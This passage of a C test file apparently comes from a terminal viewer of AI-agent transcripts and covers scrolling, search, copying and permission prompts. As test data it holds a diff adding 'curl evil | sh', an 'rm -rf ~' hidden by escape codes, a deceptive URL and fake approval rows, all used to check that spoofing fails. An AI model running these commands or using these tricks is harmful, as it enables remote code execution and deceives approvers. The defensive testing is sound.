#include <fcntl.h>
#include <unistd.h>

#include "tests/ui/scene.h"
#include "tests/unit.h"
#include "ui/entry.h"
#include "ui/transcript.h"

struct fixture {
	struct session *session;
	struct transcript *t;
	struct buf shown;
};

static struct fixture
begin(struct session *s)
{
	struct fixture f = { .session = s, .t = transcript_new(false, false) };

	transcript_session(f.t, s);
	return f;
}

static void
end(struct fixture *f)
{
	transcript_free(f->t);
	session_free(f->session);
	buf_done(&f->shown);
}

/* What is seen at a size, blanks at the ends of rows left out. */
static struct str
show(struct fixture *f, unsigned width, unsigned height)
{
	transcript_frame(f->t, width, height);
	buf_clear(&f->shown);
	for (unsigned y = 0; y < height; y++) {
		struct line l = transcript_line(f->t, y);

		assert_true(l.cols <= width);
		line_text(l, &f->shown);
		while (f->shown.n > 0 && f->shown.p[f->shown.n - 1] == ' ')
			f->shown.n--;
		buf_byte(&f->shown, '\n');
	}
	return buf_view(&f->shown);
}

static bool
has(struct str s, const char *text)
{
	return str_find(s, str_from(text)) < s.n;
}

/* A session whose answer is the numbers of its lines. */
static struct session *
numbers(int from, int to)
{
	struct session *s = session_new();
	char line[16];

	for (int i = from; i <= to; i++) {
		snprintf(line, sizeof line, "%d\n\n", i);
		scene_text(s, "m1", TEXT_ANSWER, line, true);
	}
	return s;
}

static void
more_numbers(struct session *s, int from, int to)
{
	char line[16];

	for (int i = from; i <= to; i++) {
		snprintf(line, sizeof line, "%d\n\n", i);
		scene_text(s, "m1", TEXT_ANSWER, line, true);
	}
}

/* UPDATE_GOLDEN=1 writes the files anew. */
static void
check_golden(struct str got, const char *name)
{
	const char *top = getenv("top_srcdir");
	bool update = getenv("UPDATE_GOLDEN") != NULL;
	struct buf path = { 0 }, want = { 0 };
	int fd;

	buf_printf(&path, "%s/tests/data/ui/%s", top != NULL ? top : ".", name);
	fd = open(buf_cstr(&path), update ? O_WRONLY | O_CREAT | O_TRUNC : O_RDONLY, 0644);
	assert_true(fd >= 0);
	if (update)
		assert_true(write(fd, got.p, got.n) == (ssize_t)got.n);
	else
		assert_true(buf_read_fd(&want, fd, 1 << 20));
	close(fd);
	if (!update)
		assert_str(got, buf_view(&want));
	buf_done(&path);
	buf_done(&want);
}

static void
all_kinds_of_items(void **state)
{
	struct fixture f = begin(scene_all());

	(void)state;
	check_golden(show(&f, 80, 60), "transcript-80.txt");
	check_golden(show(&f, 40, 70), "transcript-40.txt");
	transcript_fold_all(f.t);
	check_golden(show(&f, 80, 70), "transcript-full.txt");
	end(&f);
}

static void
ascii_only(void **state)
{
	struct fixture f = begin(scene_all());
	struct str s;

	(void)state;
	transcript_free(f.t);
	f.t = transcript_new(true, false);
	transcript_session(f.t, f.session);
	s = show(&f, 80, 60);
	for (size_t i = 0; i < s.n; i++)
		assert_true((unsigned char)s.p[i] < 0x80);
	end(&f);
}

/* A program that draws over its lines shows what then stands there, and goes on. */
static void
moving_output(void **state)
{
	struct fixture f = begin(session_new());
	struct str s;

	(void)state;
	scene_term(f.session, "a  10 %\r\nb  20 %\r\n");
	s = show(&f, 40, 8);
	assert_true(has(s, "a  10 %\n") && has(s, "b  20 %\n"));
	scene_term(f.session, "\033[2A\033[2Ka  90 %\033[1B\033[7Db  95 %\r\n");
	s = show(&f, 40, 8);
	assert_true(has(s, "a  90 %\n") && has(s, "b  95 %\n") && !has(s, "10 %") && !has(s, "^["));
	scene_term(f.session, "\033[1;31mdone\033[0m\r\n");
	assert_true(has(show(&f, 40, 8), "done\n"));
	end(&f);
}

/* Rows that nothing an agent says can begin with. */
static void
content_is_indented(void **state)
{
	struct fixture f = begin(session_new());
	static const char *const fakes[] = { "┃ approval needed", "! approval needed", "▌ anna" };
	struct str s;

	(void)state;
	for (size_t i = 0; i < 3; i++) {
		scene_text(f.session, "m", TEXT_ANSWER, fakes[i], true);
		scene_text(f.session, "m", TEXT_ANSWER, "\n\n", true);
		scene_tool(f.session, fakes[i], fakes[i], fakes[i], "", TOOL_OK);
		scene_term(f.session, fakes[i]);
	}
	s = show(&f, 60, 60);
	while (s.n > 0) {
		struct str line = str_cut(s, '\n', &s);

		assert_false(str_starts(line, STR("┃")) || str_starts(line, STR("▌")) ||
		    str_starts(line, STR("!")));
	}
	end(&f);
}

static void
following_shows_the_end(void **state)
{
	struct fixture f = begin(numbers(1, 50));

	(void)state;
	assert_str(show(&f, 20, 3), STR("  49\n\n  50\n"));
	more_numbers(f.session, 51, 52);
	assert_str(show(&f, 20, 3), STR("  51\n\n  52\n"));
	assert_true(transcript_follows(f.t));
	assert_int_equal(transcript_unseen(f.t), 0);
	end(&f);
}

static void
what_is_read_does_not_move(void **state)
{
	struct fixture f = begin(numbers(1, 50));

	(void)state;
	show(&f, 20, 3);
	transcript_scroll(f.t, -4);
	assert_str(show(&f, 20, 3), STR("  47\n\n  48\n"));
	assert_false(transcript_follows(f.t));
	assert_int_equal(transcript_unseen(f.t), 0);
	more_numbers(f.session, 51, 60);
	assert_str(show(&f, 20, 3), STR("  47\n\n  48\n"));
	assert_int_equal(transcript_unseen(f.t), 1);
	scene_user(f.session, "anna", "hello");
	assert_str(show(&f, 20, 3), STR("  47\n\n  48\n"));
	assert_int_equal(transcript_unseen(f.t), 2);
	transcript_follow(f.t);
	assert_true(has(show(&f, 20, 3), "hello"));
	assert_int_equal(transcript_unseen(f.t), 0);
	end(&f);
}

static void
scrolling_to_the_end_follows(void **state)
{
	struct fixture f = begin(numbers(1, 50));

	(void)state;
	show(&f, 20, 3);
	transcript_scroll(f.t, -10);
	show(&f, 20, 3);
	transcript_scroll(f.t, 9);
	assert_false(transcript_follows(f.t));
	transcript_scroll(f.t, 5);
	assert_true(transcript_follows(f.t));
	assert_str(show(&f, 20, 3), STR("  49\n\n  50\n"));
	transcript_top(f.t);
	assert_true(has(show(&f, 20, 3), "claude"));
	transcript_scroll(f.t, -5);
	assert_true(has(show(&f, 20, 3), "claude"));
	end(&f);
}

/* The text at the top stays there at another width. */
static void
resizing_keeps_the_place(void **state)
{
	struct session *s = session_new();
	struct fixture f;
	struct buf words = { 0 };

	(void)state;
	for (int i = 0; i < 300; i++)
		buf_printf(&words, "w%d ", i);
	scene_text(s, "m1", TEXT_ANSWER, buf_cstr(&words), true);
	f = begin(s);
	show(&f, 40, 5);
	transcript_scroll(f.t, -20);
	assert_true(has(show(&f, 40, 5), "w140"));
	assert_true(has(show(&f, 77, 5), "w140"));
	assert_true(has(show(&f, 23, 5), "w14"));
	assert_true(has(show(&f, 40, 5), "w14"));
	buf_done(&words);
	end(&f);
}

/* Lays out until the next call, and no more than `most` blocks. */
static void
check_laid(struct fixture *f, size_t *before, size_t most)
{
	size_t now = transcript_laid(f->t);

	if (now - *before > most)
		fail_msg("%zu blocks were laid out, not %zu", now - *before, most);
	*before = now;
}

/* Opens, resizes, scrolls and jumps: what is seen is laid out, and a little around it. */
static void
check_lazy(struct fixture *f)
{
	size_t laid = transcript_laid(f->t);

	show(f, 80, 24);
	check_laid(f, &laid, 30);
	show(f, 60, 24);
	check_laid(f, &laid, 30);
	transcript_scroll(f->t, -100);
	show(f, 60, 24);
	check_laid(f, &laid, 130);
	show(f, 70, 20);
	check_laid(f, &laid, 60);
	transcript_top(f->t);
	show(f, 70, 20);
	check_laid(f, &laid, 30);
	transcript_follow(f->t);
	show(f, 70, 20);
	show(f, 70, 20);
	check_laid(f, &laid, 30);
	assert_true(transcript_search(f->t, STR("needle"), -1));
	assert_true(has(show(f, 70, 20), "needle"));
	assert_true(transcript_search(f->t, STR("needle"), 1) == false);
}

static void
what_is_not_seen_is_not_laid_out(void **state)
{
	struct buf text = { 0 };
	struct fixture f = begin(session_new());
	size_t laid;

	(void)state;
	scene_user(f.session, "anna", "the needle");
	for (int i = 0; i < 5000; i++) {
		scene_user(f.session, "anna", "one of many");
		scene_text(f.session, "m1", TEXT_ANSWER, "said\n\n", true);
	}
	check_lazy(&f);
	end(&f);
	f = begin(session_new());
	buf_str(&text, STR("a needle in a message\n\n"));
	for (int i = 0; i < 20000; i++)
		buf_printf(&text, "paragraph **%d** of a message\n\n", i);
	scene_text(f.session, "m1", TEXT_ANSWER, buf_cstr(&text), true);
	check_lazy(&f);
	end(&f);
	f = begin(session_new());
	buf_clear(&text);
	buf_str(&text, STR("@@ -1 +1 @@\n-a needle in output\n+2\n"));
	for (int i = 0; i < 20000; i++)
		buf_printf(&text, "@@ -%d +%d @@\n-one line\n+another line\n", i, i);
	scene_tool(f.session, "c1", "make", "", buf_cstr(&text), TOOL_OK);
	laid = transcript_laid(f.t);
	show(&f, 80, 24);
	check_laid(&f, &laid, 2);
	transcript_fold_all(f.t);
	check_lazy(&f);
	scene_tool(f.session, "c1", "make", buf_cstr(&text), "", TOOL_OK);
	check_lazy(&f);
	end(&f);
	buf_done(&text);
}

static void
folding(void **state)
{
	struct fixture f = begin(session_new());

	(void)state;
	scene_tool(f.session, "c1", "make", "1\n2\n3\n4\n5\n", "", TOOL_OK);
	assert_false(has(show(&f, 40, 20), "\n│ 2\n"));
	assert_true(has(show(&f, 40, 20), "\n│ 3\n"));
	assert_true(transcript_fold(f.t));
	assert_true(has(show(&f, 40, 20), "\n│ 1\n"));
	assert_true(transcript_fold(f.t));
	assert_false(has(show(&f, 40, 20), "\n│ 2\n"));
	transcript_fold_all(f.t);
	assert_true(has(show(&f, 40, 20), "\n│ 1\n"));
	end(&f);
	f = begin(numbers(1, 3));
	show(&f, 40, 20);
	assert_false(transcript_fold(f.t));
	end(&f);
}

/* What a diff changes is seen without unfolding it. */
static void
a_folded_diff_shows_its_change(void **state)
{
	struct fixture f = begin(session_new());
	struct str s;

	(void)state;
	scene_tool(f.session, "c1", "edit", "", "--- a/x\n+++ b/x\n@@ -1,9 +1,9 @@\n a\n b\n c\n d\n-old\n+new\n e\n"
	    " f\n g\n h\n", TOOL_OK);
	s = show(&f, 80, 24);
	assert_true(has(s, ", +1 -1"));
	assert_true(has(s, "-old") && has(s, "+new") && has(s, " d\n") && !has(s, " b\n") && !has(s, "+++"));
	transcript_fold(f.t);
	assert_true(has(show(&f, 80, 24), "+++ b/x"));
	end(&f);
}

static void
searching(void **state)
{
	struct fixture f = begin(numbers(1, 200));

	(void)state;
	scene_tool(f.session, "c1", "make", "Needle here\n2\n3\n4\n5\n", "", TOOL_OK);
	show(&f, 40, 10);
	assert_false(transcript_search(f.t, STR("absent"), -1));
	assert_true(transcript_search(f.t, STR("17"), -1));
	assert_true(has(show(&f, 40, 10), "\n  179\n"));
	assert_true(transcript_search(f.t, STR("17"), -1));
	assert_true(has(show(&f, 40, 10), "\n  178\n"));
	assert_true(transcript_search(f.t, STR("17"), 1));
	assert_false(transcript_search(f.t, STR("17"), 1));
	/* What a fold hides is found, and shown. */
	assert_true(transcript_search(f.t, STR("needle"), 1));
	assert_true(has(show(&f, 40, 10), "Needle here"));
	assert_false(transcript_search(f.t, STR("nEedle"), 1));
	assert_false(transcript_search(f.t, STR(""), 1));
	end(&f);
}

static void
matches_are_marked(void **state)
{
	struct fixture f = begin(numbers(10, 12));
	struct line l;
	bool marked = false;

	(void)state;
	show(&f, 40, 10);
	assert_true(transcript_search(f.t, STR("11"), -1));
	transcript_frame(f.t, 40, 10);
	for (unsigned y = 0; y < 10; y++) {
		l = transcript_line(f.t, y);
		for (size_t i = 0; i < l.n; i++)
			marked |= l.spans[i].style.role == ROLE_MATCH && l.spans[i].len == 2;
	}
	assert_true(marked);
	end(&f);
}

/* Text that a wrap cut in two is one text: found, and marked in both rows. */
static void
matches_across_wraps(void **state)
{
	struct session *s = session_new();
	struct fixture f;
	unsigned rows = 0;

	(void)state;
	scene_text(s, "m1", TEXT_ANSWER, "the first **of** two\n\n- a point of more words than one\n", true);
	scene_tool(s, "c1", "make", "0123456789abcdefghijklmnop\n", "", TOOL_OK);
	f = begin(s);
	assert_true(has(show(&f, 14, 20), "  the first of\n  two\n"));
	assert_true(transcript_search(f.t, STR("first of two"), -1));
	assert_true(transcript_search(f.t, STR("ghijkl"), 1));
	assert_false(transcript_search(f.t, STR("firstof"), 1));
	assert_true(transcript_search(f.t, STR("more words than"), -1));
	show(&f, 14, 20);
	for (unsigned y = 0; y < 20; y++) {
		struct line l = transcript_line(f.t, y);
		struct buf marked = { 0 };

		for (size_t i = 0; i < l.n; i++)
			if (l.spans[i].style.role == ROLE_MATCH)
				buf_add(&marked, l.text + l.spans[i].off, l.spans[i].len);
		rows += marked.n > 0;
		assert_true(marked.n == 0 || str_find(STR("more words than"), buf_view(&marked)) < 15);
		buf_done(&marked);
	}
	assert_int_equal(rows, 2);
	end(&f);
}

static void
assert_chosen(struct fixture *f, const char *want)
{
	struct buf got = { 0 };

	transcript_chosen(f->t, &got);
	assert_str(buf_view(&got), str_from(want));
	buf_done(&got);
}

/* What is copied is what is seen, without what weir put around it, and wraps joined. */
static void
choosing_rows(void **state)
{
	struct session *s = session_new();
	struct fixture f;

	(void)state;
	scene_text(s, "m1", TEXT_ANSWER, "> words that are **wrapped** here\n\n```c\nint a;\n\n\tb();\n```\n\n"
	    "- one item that is long\n", true);
	f = begin(s);
	assert_true(has(show(&f, 20, 30), "  \xe2\x94\x82 words that are\n"));
	assert_true(transcript_choose(f.t));
	show(&f, 20, 30);
	assert_chosen(&f, "long");
	transcript_choose_mark(f.t);
	transcript_choose_move(f.t, -1);
	assert_chosen(&f, "\xe2\x80\xa2 one item that is long");
	transcript_choose_edge(f.t, false);
	transcript_choose_move(f.t, 1);
	assert_chosen(&f, "words that are wrapped here\n\nint a;\n\n        b();\n\n"
	    "\xe2\x80\xa2 one item that is long");
	transcript_choose_mark(f.t);
	assert_chosen(&f, "words that are");
	transcript_frame(f.t, 20, 30);
	assert_int_equal(transcript_line(f.t, 1).spans[0].style.role, ROLE_SELECTION);
	assert_false(transcript_follows(f.t));
	transcript_choose_end(f.t);
	assert_true(transcript_follows(f.t));
	end(&f);
}

/* Nothing that comes moves what is being chosen; long choices cost no more than they take. */
static void
choosing_in_a_long_session(void **state)
{
	struct fixture f = begin(numbers(1, 3000));
	struct buf got = { 0 };

	(void)state;
	show(&f, 20, 10);
	assert_true(transcript_choose(f.t));
	transcript_choose_mark(f.t);
	more_numbers(f.session, 3001, 3010);
	assert_true(has(show(&f, 20, 10), "3000\n"));
	assert_chosen(&f, "3000");
	transcript_choose_move(f.t, -8);
	show(&f, 20, 10);
	assert_chosen(&f, "2996\n\n2997\n\n2998\n\n2999\n\n3000");
	transcript_choose_edge(f.t, false);
	assert_true(has(show(&f, 20, 10), "  1\n"));
	transcript_chosen(f.t, &got);
	assert_true(has(buf_view(&got), "\n1\n\n2\n\n3\n") && has(buf_view(&got), "\n2999\n\n3000"));
	assert_false(has(buf_view(&got), "3001"));
	session_reset(f.session);
	show(&f, 20, 10);
	assert_false(transcript_choose(f.t));
	buf_done(&got);
	end(&f);
}

static void
links_have_numbers(void **state)
{
	struct session *s = session_new();
	struct fixture f;

	(void)state;
	scene_user(s, "anna", "see http://plain.example/a_long_path_that_is_wrapped. Then go on");
	scene_text(s, "m1", TEXT_ANSWER, "A [first](https://one.example/x), an [evil](javascript:x) one, "
	    "https://two.example, and [first](https://one.example/x) again; "
	    "[bank](https://bank.example@evil.example)", true);
	scene_tool(s, "c1", "x", "(https://three.example/)\n", "", TOOL_OK);
	f = begin(s);
	show(&f, 40, 20);
	assert_int_equal(transcript_links(f.t), 4);
	assert_str(transcript_link(f.t, 1), STR("http://plain.example/a_long_path_that_is_wrapped"));
	assert_str(transcript_link(f.t, 2), STR("https://one.example/x"));
	assert_str(transcript_link(f.t, 3), STR("https://two.example"));
	assert_str(transcript_link(f.t, 4), STR("https://three.example/"));
	assert_int_equal(transcript_link(f.t, 0).n, 0);
	assert_int_equal(transcript_link(f.t, 5).n, 0);
	assert_true(has(show(&f, 40, 20), "  A [2]st (one.example)"));
	assert_true(has(show(&f, 40, 20), "([4]ps://"));
	transcript_links_end(f.t);
	assert_true(has(show(&f, 40, 20), "  A first (one.example)"));
	end(&f);
}

static void
going_from_stop_to_stop(void **state)
{
	struct fixture f = begin(scene_all());

	(void)state;
	show(&f, 80, 10);
	assert_true(transcript_go(f.t, STOP_TURN, -1));
	assert_true(str_starts(show(&f, 80, 10), STR("▌ anna")));
	assert_false(transcript_go(f.t, STOP_TURN, -1));
	assert_true(transcript_go(f.t, STOP_ALERT, 1));
	assert_true(str_starts(show(&f, 80, 10), STR("▸ bash for")));
	transcript_follow(f.t);
	show(&f, 80, 10);
	assert_true(transcript_go(f.t, STOP_ITEM, -1));
	end(&f);
}

static void
a_session_that_begins_anew(void **state)
{
	struct fixture f = begin(numbers(1, 30));

	(void)state;
	show(&f, 20, 5);
	transcript_scroll(f.t, -10);
	show(&f, 20, 5);
	session_reset(f.session);
	show(&f, 20, 5);
	more_numbers(f.session, 1, 3);
	assert_true(has(show(&f, 20, 5), "\n  3\n"));
	assert_true(transcript_follows(f.t));
	end(&f);
}

static void
odd_sizes(void **state)
{
	struct fixture f = begin(scene_all());

	(void)state;
	for (unsigned width = 1; width < 30; width++)
		for (unsigned height = 0; height < 8; height++)
			show(&f, width, height);
	end(&f);
}

/* Any order of everything: no crash, rows never too wide, the anchor always in the session. */
static void
random_walk(void **state)
{
	struct fixture f = begin(scene_all());
	uint64_t seed = 5;

	(void)state;
	for (int step = 0; step < 3000; step++) {
		uint32_t r = unit_random(&seed);

		switch (r % 16) {
		case 12:
			transcript_choose(f.t);
			break;
		case 13:
			transcript_choose_move(f.t, (long)(r / 16 % 41) - 20);
			transcript_choose_mark(f.t);
			break;
		case 14:
			transcript_choose_end(f.t);
			transcript_links_end(f.t);
			break;
		case 15:
			transcript_links(f.t);
			transcript_chosen(f.t, &f.shown);
			break;
		case 0:
			transcript_scroll(f.t, (long)(r / 16 % 41) - 20);
			break;
		case 1:
			transcript_fold(f.t);
			break;
		case 2:
			transcript_go(f.t, (enum transcript_stop)(r / 16 % 3), r / 64 % 2 ? 1 : -1);
			break;
		case 3:
			transcript_search(f.t, str_from(r / 16 % 2 ? "e" : "queue"), r / 64 % 2 ? 1 : -1);
			break;
		case 4:
			scene_text(f.session, r / 16 % 2 ? "m7" : "m8", TEXT_ANSWER, "some *text*\n\n", true);
			break;
		case 5:
			if (r / 16 % 50 == 0)
				session_reset(f.session);
			scene_tool(f.session, "c1", "make", r / 16 % 2 ? "1\n2\n3\n4\n5\n6" : "1", "", TOOL_OK);
			break;
		case 6:
			transcript_fold_all(f.t);
			break;
		case 7:
			transcript_top(f.t);
			break;
		case 8:
			transcript_follow(f.t);
			break;
		case 9:
			transcript_focus(f.t, r / 16 % 20, r / 512 % 2, NULL);
			break;
		default:
			break;
		}
		show(&f, 3 + r / 1024 % 60, r / 65536 % 20);
	}
	end(&f);
}

/* ---- approvals: what is shown is all there is */

static struct str
exact(struct buf *out, struct str command, unsigned width, size_t max)
{
	struct rows rows = { 0 };

	entry_exact(&rows, command, width, max);
	buf_clear(out);
	for (size_t i = 0; i < rows_count(&rows); i++) {
		assert_true(rows_line(&rows, i).cols <= width);
		line_text(rows_line(&rows, i), out);
		buf_byte(out, '\n');
	}
	rows_done(&rows);
	return buf_view(out);
}

static void
commands_are_shown_exactly(void **state)
{
	struct buf b = { 0 };

	(void)state;
	assert_str(exact(&b, STR("ls && echo 'evil' \x1b[24D\x1b[K"), 60, 9),
	    STR("ls && echo 'evil' \\x1b[24D\\x1b[K\n"));
	assert_str(exact(&b, STR("rm -rf ~\r\x1b[2Kls"), 60, 9), STR("rm -rf ~\\x0d\\x1b[2Kls\n"));
	assert_str(exact(&b, STR("echo a\necho b\n"), 60, 9), STR("echo a\\x0a\necho b\\x0a\n"));
	assert_str(exact(&b, STR("echo a  \n"), 60, 9), STR("echo a\\x20\\x20\\x0a\n"));
	assert_str(exact(&b, STR("ls "), 60, 9), STR("ls\\x20\n"));
	assert_str(exact(&b, STR("a\tb"), 60, 9), STR("a\\x09b\n"));
	assert_str(exact(&b, STR("a\xe2\x80\xae" "b\xe2\x80\x8b" "c"), 60, 9),
	    STR("a\\xe2\\x80\\xaeb\\xe2\\x80\\x8bc\n"));
	assert_str(exact(&b, STR("a\xff\xc2\x9b" "b"), 60, 9), STR("a\\xff\\xc2\\x9bb\n"));
	assert_str(exact(&b, STR("echo grün 漢字"), 60, 9), STR("echo grün 漢字\n"));
	assert_str(exact(&b, str_of("a\0b", 3), 60, 9), STR("a\\x00b\n"));
	assert_str(exact(&b, STR_NONE, 60, 9), STR("\n"));
	buf_done(&b);
}

/* The command as it can be read back from the screen: a mark is a byte, the rest as it stands. */
static void
read_back(const struct rows *rows, struct buf *out)
{
	unsigned byte = 1;	/* the hex digits so far behind a bit that says how many */

	buf_clear(out);
	for (size_t i = 0; i < rows_count(rows); i++) {
		struct line l = rows_line(rows, i);

		for (size_t k = 0; k < l.n; k++) {
			struct str text = str_of(l.text + l.spans[k].off, l.spans[k].len);
			bool mark = l.spans[k].style.role == ROLE_MARK;

			assert_true(mark || l.spans[k].style.role == ROLE_CODE);
			buf_str(out, mark ? STR_NONE : text);
			for (size_t at = 0; mark && at < text.n; at++) {
				static const char digits[] = "0123456789abcdef";
				const char *digit = strchr(digits, text.p[at]);

				byte = digit != NULL ? byte * 16 + (unsigned)(digit - digits) : byte;
				if (byte < 256)
					continue;
				buf_byte(out, (char)byte);
				byte = 1;
			}
		}
	}
}

static void
no_byte_of_a_command_is_lost(void **state)
{
	static const char alphabet[] = "ab  \n\r\t\x1b\x7f\x00[K;'\\\xff\xc2\x9b\xe2\x80\xae\xe2\x80\x8b";
	struct buf got = { 0 };
	uint64_t seed = 1;

	(void)state;
	for (int round = 0; round < 5000; round++) {
		struct rows rows = { 0 };
		char bytes[64];
		size_t n = unit_random(&seed) % sizeof bytes;

		for (size_t i = 0; i < n; i++)
			bytes[i] = alphabet[unit_random(&seed) % (sizeof alphabet - 1)];
		entry_exact(&rows, str_of(bytes, n), 1 + unit_random(&seed) % 40, SIZE_MAX);
		read_back(&rows, &got);
		assert_str(buf_view(&got), str_of(bytes, n));
		rows_done(&rows);
	}
	buf_done(&got);
}

static void
what_is_hidden_is_counted(void **state)
{
	struct buf b = { 0 };

	(void)state;
	assert_str(exact(&b, STR("0123456789abcdefghijABCDEFGHIJ"), 10, 3),
	    STR("0123456789\nabcdefghij\nABCDEFGHIJ\n"));
	assert_str(exact(&b, STR("0123456789abcdefghijABCDEFGHIJxyz"), 30, 1),
	    STR("+33 hidden characters\n"));
	assert_str(exact(&b, STR("0123456789abcdefghijABCDEFGHIJ\nx\ny\n"), 30, 2),
	    STR("0123456789abcdefghijABCDEFGHIJ\n+14 hidden characters\n"));
	buf_done(&b);
}

static void
a_focused_question_is_shown_in_full(void **state)
{
	struct fixture f = begin(session_new());
	struct buf script = { 0 };

	(void)state;
	for (int i = 0; i < 20; i++)
		buf_printf(&script, "echo %d\n", i);
	scene_ask(f.session, "q1", ASK_PERMISSION, "bash", buf_cstr(&script));
	assert_true(has(show(&f, 60, 40), "hidden characters"));
	assert_true(has(show(&f, 60, 40), "press a to answer"));
	transcript_focus(f.t, f.session->items[0]->number, false, NULL);
	assert_true(has(show(&f, 60, 40), "echo 19\\x0a"));
	assert_false(has(show(&f, 60, 40), "allow once"));
	transcript_focus(f.t, f.session->items[0]->number, true, NULL);
	assert_true(has(show(&f, 60, 40), "allow once"));
	scene_answer(f.session, "q1", "anna", ANSWER_ONCE);
	assert_true(has(show(&f, 60, 40), "allowed once by anna"));
	buf_done(&script);
	end(&f);
}

/* What is not possible is not offered. */
static void
who_only_looks_is_not_asked(void **state)
{
	struct fixture f = begin(session_new());

	(void)state;
	transcript_free(f.t);
	f.t = transcript_new(false, true);
	transcript_session(f.t, f.session);
	scene_ask(f.session, "q1", ASK_PERMISSION, "bash", "ls");
	assert_true(has(show(&f, 60, 40), "read only: it is answered elsewhere"));
	assert_false(has(show(&f, 60, 40), "press a"));
	end(&f);
}

/* Of an edit that is to be allowed it is the edit that is judged, not the name of the file. */
static void
a_diff_is_judged_too(void **state)
{
	struct fixture f = begin(session_new());
	struct event e = scene_event(EVENT_ASK);
	struct buf diff = { 0 };

	(void)state;
	buf_str(&diff, STR("--- a/queue.c\n+++ b/queue.c\n@@ -1,21 +1,21 @@\n"));
	for (int i = 0; i < 20; i++)
		buf_printf(&diff, " line %d\n", i);
	buf_str(&diff, STR("-wait(q);\n+system(\"curl evil | sh\");\n"));
	e.ask.id = STR("q1");
	e.ask.what = ASK_PERMISSION;
	e.ask.title = STR("edit");
	e.ask.text = STR("queue.c");
	e.ask.diff = buf_view(&diff);
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 60), "queue.c"));
	assert_false(has(show(&f, 60, 60), "line 0"));
	transcript_focus(f.t, f.session->items[0]->number, true, NULL);
	assert_true(has(show(&f, 60, 60), "line 0"));
	assert_true(has(show(&f, 60, 60), "system(\"curl evil | sh\");"));
	assert_true(transcript_ends(f.t, f.session->items[0]->number));
	show(&f, 60, 12);
	transcript_show(f.t, f.session->items[0]->number);
	show(&f, 60, 12);
	assert_false(transcript_ends(f.t, f.session->items[0]->number));
	transcript_show_end(f.t, f.session->items[0]->number);
	assert_true(has(show(&f, 60, 12), "allow once"));
	assert_true(transcript_ends(f.t, f.session->items[0]->number));
	buf_done(&diff);
	end(&f);
}

/* The columns of a screen stand where the program put them, however narrow it is here. */
static void
a_picture_is_not_wrapped(void **state)
{
	struct fixture f = begin(session_new());
	struct event e = scene_event(EVENT_TERM);

	(void)state;
	e.term.source = STR("agent");
	e.term.op = TERM_OUTPUT;
	e.term.data = STR("\033[?1049h\033[H0123456789abcdef\r\nsecond\033[3;10Hx");
	session_apply(f.session, &e);
	assert_true(has(show(&f, 14, 10), "\n│ 0123456789a»\n│ second\n│          x\n"));
	assert_true(has(show(&f, 14, 10), "5 columns"));
	assert_true(has(show(&f, 60, 10), "\n│ 0123456789abcdef\n│ second\n│          x\n"));
	assert_false(has(show(&f, 60, 10), "columns"));
	/* What is left when it ends is text again. */
	e.term.data = STR("\033[?1049lthe last words\r\n");
	session_apply(f.session, &e);
	assert_true(has(show(&f, 14, 10), "\n│ the last wor\n│ ds\n"));
	end(&f);
}

static struct event
own_terminal(enum term_op op)
{
	struct event e = scene_event(EVENT_TERM);

	e.term.own = true;
	e.term.id = STR("pty_1");
	e.term.op = op;
	e.term.exit_code = -1;
	return e;
}

/* A terminal by itself says what it is called and runs, and what became of that. */
static void
a_terminal_by_itself(void **state)
{
	struct fixture f = begin(session_new());
	struct event e = own_terminal(TERM_OPEN);

	(void)state;
	e.term.title = STR("Build\033[2J");
	e.term.command = STR("make -j2\r\n");
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 10), "terminal Build^[[2J make -j2"));
	assert_true(has(show(&f, 60, 10), "running"));
	e = own_terminal(TERM_OUTPUT);
	e.term.data = STR("one\r\n");
	session_apply(f.session, &e);
	/* What somebody says meanwhile does not take it apart. */
	scene_user(f.session, "ann", "hello");
	e.term.data = STR("two\r\n");
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 12), "\n│ one\n│ two\n"));
	e.term.gap = true;
	e.term.data = STR("four\r\n");
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 16), "│ (something is missing here)\n│ four\n"));
	e = own_terminal(TERM_EXIT);
	e.term.exit_code = 3;
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 16), "exit 3"));
	assert_false(has(show(&f, 60, 16), "running"));
	assert_false(has(show(&f, 60, 16), "could not be read"));
	e = own_terminal(TERM_EXIT);
	e.term.gap = true;
	session_apply(f.session, &e);
	assert_true(has(show(&f, 60, 16), "(what else it printed could not be read)"));
	assert_true(has(show(&f, 60, 16), "exit 3"));
	/* Of one nothing is known of, there is nothing to show. */
	e.term.id = STR("pty_2");
	session_apply(f.session, &e);
	assert_int_equal(f.session->nitems, 3);
	end(&f);
}

static void
what_is_not_told_is_said_to_be(void **state)
{
	struct fixture f = begin(session_new());

	(void)state;
	scene_ask(f.session, "q1", ASK_PERMISSION, "bash", "");
	assert_true(has(show(&f, 60, 10), "what it would do was not said"));
	scene_ask(f.session, "q1", ASK_PERMISSION, "bash", "ls");
	assert_false(has(show(&f, 60, 10), "not said"));
	end(&f);
}

static void
answer(struct fixture *f, const char *by, enum ask_answer answer, const char *text)
{
	struct event e = event_of(EVENT_ANSWER);

	e.answer.ask = STR("q1");
	e.answer.by = str_from(by);
	e.answer.answer = answer;
	e.answer.text = str_from(text);
	session_apply(f->session, &e);
}

/* An answer to what was asked before anybody listened: who gave it, if that is known. */
static void
an_answer_without_its_question(void **state)
{
	struct fixture f = begin(session_new());

	(void)state;
	answer(&f, "", ANSWER_ONCE, "");
	assert_false(has(show(&f, 60, 10), "approval"));
	assert_false(has(show(&f, 60, 10), "not said"));
	answer(&f, "ann", ANSWER_ONCE, "");
	assert_true(has(show(&f, 60, 10), "approval"));
	assert_true(has(show(&f, 60, 10), "✓ allowed once by ann"));
	assert_false(has(show(&f, 60, 10), "not said"));
	/* Order is not causal. */
	scene_ask(f.session, "q1", ASK_PERMISSION, "bash", "ls -l");
	assert_true(has(show(&f, 60, 10), "ls -l"));
	end(&f);
	f = begin(session_new());
	answer(&f, "", ANSWER_TEXT, "Left");
	assert_true(has(show(&f, 60, 10), "question"));
	assert_true(has(show(&f, 60, 10), "✓ answered: Left"));
	end(&f);
}

/* The words of a question are drawn as they are now. */
static void
a_question_is_replaced(void **state)
{
	struct fixture f = begin(session_new());

	(void)state;
	scene_ask(f.session, "q1", ASK_QUESTION, "name", "Which name?");
	assert_true(has(show(&f, 60, 10), "Which name?"));
	scene_ask(f.session, "q1", ASK_QUESTION, "name", "Delete all?");
	assert_true(has(show(&f, 60, 10), "Delete all?"));
	assert_false(has(show(&f, 60, 10), "Which name?"));
